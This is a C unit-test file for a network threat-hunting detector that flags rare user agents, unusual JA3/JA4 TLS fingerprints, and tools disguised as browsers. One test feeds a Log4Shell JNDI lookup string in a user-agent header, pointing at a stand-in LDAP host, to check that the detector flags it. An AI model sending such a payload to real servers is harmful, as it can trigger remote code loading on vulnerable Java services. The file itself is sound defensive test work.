/* Odd user agents, and clients that are rare for more than one reason, are found; what is merely
 * rare, or of a small network, is not. */
#include "hunt/quiet_bed.h"

#define HOST "10.0.0.5"
#define HUNT "client"

static const char browser[] = "Mozilla/5.0 (X11; Linux x86_64) Firefox/118.0";

static void agent(struct quiet_bed *bed, double s, const char *src, const char *dst,
                  const char *host, const char *text)
{
    struct hunt_record record = bed_http(s, (uint64_t)(1000 + s), src, dst, "GET", host);
    record.http.user_agent = str_c(text);
    quiet_put(bed, record);
}

static void ja3(struct quiet_bed *bed, double s, const char *src, const char *dst, const char *name,
                const char *print)
{
    struct hunt_record record = bed_ssl(s, (uint64_t)(5000 + s), src, dst, name);
    record.ssl.ja3 = str_c(print);
    record.ssl.established = true;
    quiet_put(bed, record);
    quiet_put(bed, bed_conn(s, (uint64_t)(5000 + s), src, dst, 443, "ssl"));
}

static void test_attack(void **state)
{
    (void)state;
    struct quiet_bed bed;
    quiet_begin(&bed, NULL);
    agent(&bed, 1, HOST, "192.0.2.1", "www.example.com", "${jndi:ldap://192.0.2.7:389/a}");
    const struct finding *found = quiet_found(&bed, HUNT, 0);
    assert_non_null(found);
    assert_true(found->score >= 0.8);
    assert_true(quiet_says(found, "Log4j"));
    quiet_end(&bed);
}

/* A tool towards a place that nobody else knows, on a machine that browses. */
static void test_tool(void **state)
{
    (void)state;
    for (unsigned kind = 0; kind < 3; kind++) {
        struct quiet_bed bed;
        quiet_begin(&bed, NULL);
        if (kind != 1)
            quiet_neighbours(&bed, 0, 30);
        if (kind != 2)
            agent(&bed, 1, HOST, "198.18.0.2", "news.example.com", browser);
        agent(&bed, 2, HOST, "192.0.2.1", "stage.example.org",
              kind == 2 ? "Mozilla/5.0 (Windows NT 10.0; en-US) WindowsPowerShell/5.1"
                        : "python-requests/2.31.0");
        const struct finding *found = quiet_found(&bed, HUNT, 0);
        if (kind == 0) {
            assert_non_null(found);
            assert_true(found->score >= 0.3 && found->score <= 0.6);
            assert_true(quiet_says(found, "Python, on a machine that else has browsers"));
        } else {
            /* In a network of two nothing is rare; and a server's scripts are its own. */
            assert_null(found);
        }
        quiet_end(&bed);
    }
}

static void test_rare_print(void **state)
{
    (void)state;
    for (unsigned kind = 0; kind < 4; kind++) {
        struct quiet_bed bed;
        quiet_begin(&bed, NULL);
        quiet_neighbours(&bed, 0, kind == 1 ? 2 : 40);
        /* 0: alone, no name, a place of its own. 2: towards a place that all know. 3: by another
         * host too. */
        const char *dst = kind == 2 ? "198.18.0.1" : "192.0.2.44";
        for (unsigned i = 0; i < 10; i++)
            ja3(&bed, 100 + 60 * i, HOST, dst, kind == 2 ? "mail.example.com" : "",
                "a0e9f5d64349fb13191bc781f81f42e1");
        if (kind == 3)
            ja3(&bed, 50, "10.0.0.6", "192.0.2.45", "", "a0e9f5d64349fb13191bc781f81f42e1");
        const struct finding *found = quiet_found(&bed, HUNT, 0);
        assert_int_equal(found != NULL, kind == 0);
        if (found) {
            assert_true(found->score <= 0.6);
            assert_true(quiet_says(found, "this one alone has"));
        }
        quiet_end(&bed);
    }
}

/* Each of a hundred machines has something of its own: nothing of that is told. */
static void test_everybody_is_rare(void **state)
{
    (void)state;
    struct quiet_bed bed;
    quiet_begin(&bed, NULL);
    for (unsigned i = 0; i < 100; i++) {
        char src[32], text[64], print[40];
        (void)snprintf(src, sizeof src, "10.1.0.%u", i + 1);
        (void)snprintf(text, sizeof text, "Vendor-Updater/1.%u", i);
        (void)snprintf(print, sizeof print, "%032x", i + 1);
        agent(&bed, 10 + i, src, "198.18.0.3", "update.vendor.example", text);
        ja3(&bed, 10 + i, src, "198.18.0.4", "api.vendor.example", print);
    }
    assert_null(quiet_found(&bed, HUNT, 0));
    quiet_end(&bed);
}

/* New on a machine that is known for days. */
static void test_new(void **state)
{
    (void)state;
    struct quiet_bed bed;
    quiet_begin(&bed, NULL);
    for (unsigned day = 0; day < 4; day++) {
        quiet_neighbours(&bed, day * 86400.0, 20);
        ja3(&bed, day * 86400.0 + 5, HOST, "198.18.0.1", "mail.example.com",
            "cd08e31494f9531f560d64c695473da9");
    }
    ja3(&bed, 3 * 86400.0 + 500, HOST, "192.0.2.44", "fresh.example.org",
        "a0e9f5d64349fb13191bc781f81f42e1");
    const struct finding *found = quiet_found(&bed, HUNT, 0);
    assert_non_null(found);
    assert_true(quiet_says(found, "new: this machine is known"));
    assert_null(quiet_found(&bed, HUNT, 1));
    quiet_end(&bed);
}

static void ja4(struct quiet_bed *bed, double s, const char *src, const char *print)
{
    struct hunt_record record =
        bed_ssl(s, (uint64_t)(9000 + s), src, "198.18.0.9", "www.example.com");
    record.ssl.ja4 = str_c(print);
    record.ssl.established = true;
    quiet_put(bed, record);
}

/* A program that passes for a browser, whose TLS is none's; and all that is no lie. */
static void test_disguise(void **state)
{
    (void)state;
    static const char chrome[] = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                                 "(KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36";
    static const char android[] = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like "
                                  "Gecko) Chrome/60.0.3112.32 Safari/537.36";
    static const char go[] = "t13d1312h2_f57a46bbacb6_ef7df7f74e48";
    static const char python[] = "t13d4313h1_c7886603b240_b26ce05bbdd6";
    static const char of_chrome[] = "t13d1516h2_8daaf6152771_02713d6af862";
    static const char of_quic[] = "q13d0312h3_55b375c5d22e_06cda9e17597";
    static const struct {
        const char *agent, *usual, *once;
        unsigned n, n_agents;
        bool found;
    } cases[] = {
        {chrome, go, python, 30, 1, true},
        {browser, go, NULL, 12, 1, true},
        {chrome, go, of_chrome, 30, 1, false}, /* it has a browser, too */
        {chrome, python, of_quic, 30, 1, false},
        {chrome, go, NULL, 9, 1, false}, /* not enough to tell */
        {android, go, NULL, 30, 1, false},
        {"curl/8.5.0", go, NULL, 30, 1, false},
        {chrome, go, NULL, 30, 5, false}, /* a proxy: five machines' browsers */
    };
    for (unsigned i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct quiet_bed bed;
        char others[5][128];
        quiet_begin(&bed, NULL);
        agent(&bed, 1, HOST, "198.18.0.2", "news.example.com", cases[i].agent);
        for (unsigned k = 1; k < cases[i].n_agents; k++) {
            (void)snprintf(others[k], sizeof others[k],
                           "Mozilla/5.0 (Windows NT 10.0) Firefox/%u.0", 100 + k);
            agent(&bed, 2 + k, HOST, "198.18.0.2", "news.example.com", others[k]);
        }
        for (unsigned k = 0; k < cases[i].n; k++)
            ja4(&bed, 100 + 400 * k, HOST, cases[i].usual);
        if (cases[i].once)
            ja4(&bed, 5000.5, HOST, cases[i].once);
        const struct finding *found = quiet_found(&bed, HUNT, 0);
        if ((found != NULL) != cases[i].found)
            fail_msg("case %u: %s", i, found ? found->title : "nothing");
        if (found) {
            assert_true(found->score >= 0.2 && found->score < 0.6);
            assert_true(quiet_says(found, "none is as a browser's"));
            assert_non_null(strstr(found->title, "a browser only by its user agent"));
        }
        quiet_end(&bed);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_attack),     cmocka_unit_test(test_tool),
        cmocka_unit_test(test_rare_print), cmocka_unit_test(test_everybody_is_rare),
        cmocka_unit_test(test_new),        cmocka_unit_test(test_disguise),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
